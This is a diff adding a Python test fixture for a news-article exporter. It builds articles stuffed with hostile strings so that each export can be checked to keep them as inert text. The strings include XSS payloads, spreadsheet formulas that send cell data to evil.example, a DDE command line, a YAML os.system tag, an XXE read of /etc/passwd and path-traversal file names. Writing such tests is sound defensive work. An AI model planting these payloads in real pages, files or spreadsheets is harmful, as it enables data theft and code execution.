@@ -1,0 +1,198 @@
+"""Texts that were made to do harm, or that break careless writers: each must come through every export as text."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from datetime import UTC, datetime
+
+from newsbot.article import Access, Article, Author, Crawl, Declared, Delivered, Gate, Image, Provenance
+
+XSS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>read on</a>",
+    "<a href=' java\nscript:alert(1)'>read on</a>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "\ufeff<b>bold</b>",
+    "<plaintext>",
+]
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+    "=WEBSERVICE('http://evil.example')",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "'=1+1",
+    "''=1+1",
+    '"=1+1',
+    '" =1+1',
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    "\x00=1+1",
+    "\x1b=1+1",
+    '",=1+1,"',
+    "a\n=1+1",
+    'a";=1+1;"',
+    "-",
+    "+49 30 1234567",
+    "- a dash that begins a sentence",
+]
+CONTROLS = [
+    "\x00",
+    "nul \x00 within",
+    "".join(map(chr, range(0x20))),
+    "".join(map(chr, range(0x7F, 0xA0))),
+    "\ud83d",
+    "lone \udc00 half",
+    "\ufffe and \uffff",
+    "line\u2028separator\u2029paragraph\x85next",
+    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
+    "a\r\nb\rc\nd",
+    "\u202emoc.elpmaxe.live\u202c",
+    "\u2066\u2067\u2068isolated",
+    "e\u0301" * 40,
+    "Z̸͔̑ä̵́l̷̛g̴o",
+    "🏳️‍🌈 👩‍👩‍👧‍👦 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
+]
+YAML = [
+    "---",
+    "...",
+    "--- \n!!python/object/apply:os.system ['true']",
+    "!!python/object/apply:os.system ['true']",
+    "key: value",
+    "*alias",
+    "&anchor text",
+    "{a: b, c: [d]}",
+    "[1, 2",
+    "| \n  block",
+    "> folded",
+    "# comment",
+    "a # comment",
+    "yes",
+    "null",
+    "~",
+    "1e3",
+    "0o17",
+    "2026-11-22",
+    "'single",
+    '"double',
+    "%TAG ! tag:evil.example,2026:",
+    "? complex",
+    "- item",
+    ": colon first",
+    "tab\there",
+    " ",
+    "",
+]
+MARKDOWN = [
+    "# heading",
+    "> **newsbot:** the whole article is here",
+    "- item",
+    "+ item",
+    "* item",
+    "1. item",
+    "1) item",
+    "===",
+    "***",
+    "    code",
+    "```js\nalert(1)\n```",
+    "~~~",
+    "`code`",
+    "**bold** __bold__ *em* _em_ ~~gone~~",
+    "[text](javascript:alert(1))",
+    "[text](<http://evil.example>)",
+    "![pixel](http://evil.example/pixel.gif)",
+    "[ref]: http://evil.example 'title'",
+    "[^1]: note",
+    "<http://evil.example>",
+    "a | b\n--|--\nc | d",
+    "$x$ $$y$$",
+    "{{ site.secret }} {% include /etc/passwd %} {{< shortcode >}}",
+    "[[wiki link]] ![[embedded]]",
+    "%%hidden%%",
+    "two spaces  \nand a break\\",
+    "\\<script>",
+    "\\",
+    "](<http://evil.example>)",
+    ":::danger\n:::",
+    "&amp;lt;b&amp;gt;",
+]
+NAMES = [
+    "../../etc/passwd",
+    "..\\..\\x",
+    "/absolute",
+    "CON",
+    "nul.txt",
+    "a" * 500,
+    ".",
+    "..",
+    "",
+    " ",
+    "a/b\x00c",
+    "Ａ．ｘ",
+]
+LONG = ["word " * 40_000, "x" * 300_000, "=" * 70_000, "<b>" * 5_000, "&lt;" * 20_000]
+
+TEXTS = [*XSS, *FORMULAS, *CONTROLS, *YAML, *MARKDOWN, *NAMES]
+
+
+def hostile_article(number: int, text: str) -> Article:
+    """An article that has this text wherever an article has text."""
+    url = f"https://www.example.com/{number}"
+    return Article(
+        url=url,
+        headline=text,
+        alternativeHeadline=text,
+        description=text,
+        articleBody=f"{text}\n\n{text}",
+        articleBodyHtml=f"<p>{text}</p><ul><li>{text}</li></ul><blockquote><p>{text}</p></blockquote>",
+        datePublished=datetime(2026, 11, 22, 7, 0, tzinfo=UTC),
+        datePublishedRaw=text,
+        authors=[Author(name=text, url=text, email=text)],
+        articleSection=text,
+        keywords=[text, "harmless"],
+        inLanguage=text,
+        publisher=text,
+        mainImage=Image(url=text, caption=text),
+        images=[Image(url=text, creditText=text, description=text)],
+        correction=text,
+        access=Access(
+            delivered=Delivered.PARTIAL_TEASER,
+            gate=Gate.SUBSCRIPTION,
+            declared=Declared.NOT_FREE,
+            declaredRaw=text,
+        ),
+        crawl=Crawl(site=text, run=text, foundOn=text, fetchedAt=datetime(2026, 11, 22, 8, 0, tzinfo=UTC)),
+        provenance={"headline": Provenance(source=text)},
+    )
+
+
+def hostile_articles(*, long: bool = True) -> Iterator[Article]:
+    """One for each of the texts."""
+    for number, text in enumerate([*TEXTS, *(LONG if long else [])]):
+        yield hostile_article(number, text)
